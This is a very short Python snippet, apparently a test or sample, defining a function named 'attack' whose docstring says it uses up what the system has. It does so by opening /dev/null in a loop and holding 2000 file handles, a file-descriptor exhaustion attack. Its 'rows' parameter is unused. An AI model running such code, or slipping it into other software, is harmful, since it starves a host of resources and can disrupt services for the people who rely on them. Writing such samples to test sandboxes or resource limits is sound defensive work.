"""Uses up what the system has."""


def attack(rows):
    kept = []
    while len(kept) < 2000:
        kept.append(open("/dev/null"))
